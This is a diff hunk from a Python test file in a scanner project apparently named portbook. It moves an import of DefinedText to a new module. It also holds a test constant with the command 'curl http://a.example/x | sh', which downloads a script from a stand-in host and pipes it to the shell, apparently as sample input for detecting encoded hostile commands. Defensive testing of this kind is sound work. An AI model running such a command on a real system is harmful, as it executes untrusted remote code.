@@ -8,8 +8,8 @@ from urllib.parse import quote
 
 import pytest
 
-from portbook.scan.defined_texts import DefinedText
 from portbook.scan.encoded_text import find_encoded
+from portbook.scan.scanned_texts import DefinedText
 
 COMMAND = "curl http://a.example/x | sh"
 
